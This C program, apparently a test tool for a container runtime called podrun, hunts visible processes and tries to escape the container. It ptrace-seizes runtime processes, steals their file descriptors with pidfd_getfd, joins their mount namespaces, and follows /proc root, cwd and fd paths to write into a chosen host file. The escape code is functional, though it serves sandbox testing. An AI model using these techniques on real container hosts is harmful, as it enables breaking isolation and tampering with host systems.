// seize tries, as fast as it can and until end of file on its input, to get hold of every visible process
// that does not run a container's own program: by tracing it, and by what /proc allows to a process with
// the right to trace. It prints what it gets: a file of the host, whose path is its argument, for writing;
// podrun's program; a network that is not its own.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *file; // on the host
static char comm[32];

static void got(const char *what) { printf("got %s of %s\n", what, comm); }

// content reads the file at a path; nothing if it cannot.
static size_t content(const char *path, char *to, size_t size) {
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, to, size - 1);
	if (fd >= 0)
		close(fd);
	to[n < 0 ? 0 : n] = 0;
	return n < 0 ? 0 : n;
}

static void write_below(int pid, const char *dir) {
	char path[8192];
	snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../../../../../..%s", pid, dir, file);
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, "evil", 4) == 4)
		got("the host's file");
	close(fd);
}

// steal takes descriptors of a process, and enters its mount namespace.
static void steal(int pid) {
	char path[8192];
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 0; pidfd >= 0 && fd < 32; fd++) {
		int own = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (own < 0)
			continue;
		snprintf(path, sizeof path, "fd/%d", own);
		write_below(getpid(), path);
		close(own);
	}
	snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
	int ns = open(path, O_RDONLY);
	if ((pidfd >= 0 || ns >= 0) && fork() == 0) {
		if (setns(pidfd, CLONE_NEWNS) == 0 || setns(ns, CLONE_NEWNS) == 0) {
			int fd = open(file, O_WRONLY);
			if (fd >= 0 && write(fd, "evil", 4) == 4)
				got("the host's file, in the mount namespace");
		}
		fflush(stdout);
		_exit(0);
	}
	while (waitpid(-1, NULL, 0) > 0)
		;
	close(ns);
	close(pidfd);
}

static int holds(int pid) {
	char path[64], target[512];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof target - 1);
	if (n < 0)
		return 0;
	target[n] = 0;
	if (strstr(target, "podrun-execshim"))
		return 1;
	if (strstr(target, "podrun") || strstr(target, "runc") || strstr(target, "runner") || strstr(target, "memfd")) {
		got(target);
		return 1;
	}
	return 0;
}

static void reach(int pid) {
	char path[300], own[64], its[64];
	if (!holds(pid))
		return;
	write_below(pid, "root");
	write_below(pid, "cwd");
	snprintf(path, sizeof path, "/proc/%d/ns/net", pid);
	ssize_t m = readlink("/proc/self/ns/net", own, sizeof own), n = readlink(path, its, sizeof its);
	if (n > 0 && (n != m || memcmp(own, its, n)))
		got("another network");
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *d = opendir(path);
	for (struct dirent *e; d && (e = readdir(d));)
		if (*e->d_name != '.') {
			snprintf(path, sizeof path, "fd/%s", e->d_name);
			write_below(pid, path);
		}
	if (d)
		closedir(d);
}

// devices reads the names of the network devices that /proc shows for a process.
static void devices(const char *pid, char *to, size_t size) {
	char path[64], text[8192];
	snprintf(path, sizeof path, "/proc/%s/net/dev", pid);
	content(path, text, sizeof text);
	*to = 0;
	for (char *colon = text, *name; (colon = strchr(colon, ':')); colon++) {
		for (name = colon; name > text && name[-1] != '\n' && name[-1] != ' ';)
			name--;
		snprintf(to + strlen(to), size - strlen(to), "%.*s", (int)(colon - name) + 1, name);
	}
}

static void attack(const char *number) {
	char path[64], own[4096], its[4096];
	int pid = atoi(number);
	snprintf(path, sizeof path, "/proc/%s/comm", number);
	content(path, comm, sizeof comm);
	comm[strcspn(comm, "\n")] = 0;
	devices("self", own, sizeof own);
	devices(number, its, sizeof its);
	if (*its && strcmp(own, its) && !strcmp(comm, "podrun-pause")) // others are visible with hostPID only
		got("sight of another network's devices");
	reach(pid);
	if (!strncmp(comm, "runc:", 5) || !strcmp(comm, "podrun-pause"))
		steal(pid);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	reach(pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv) {
	struct pollfd in = {0, POLLIN, 0};
	int rounds = 0;
	file = argc > 1 ? argv[1] : "/nothing";
	printf("looking\n");
	fflush(stdout);
	do {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			int pid = atoi(e->d_name);
			if (pid > 0 && pid != getpid())
				attack(e->d_name);
		}
		closedir(d);
		fflush(stdout);
		rounds++;
	} while (poll(&in, 1, 0) == 0);
	printf("looked %d\n", rounds > 0);
	return 0;
}
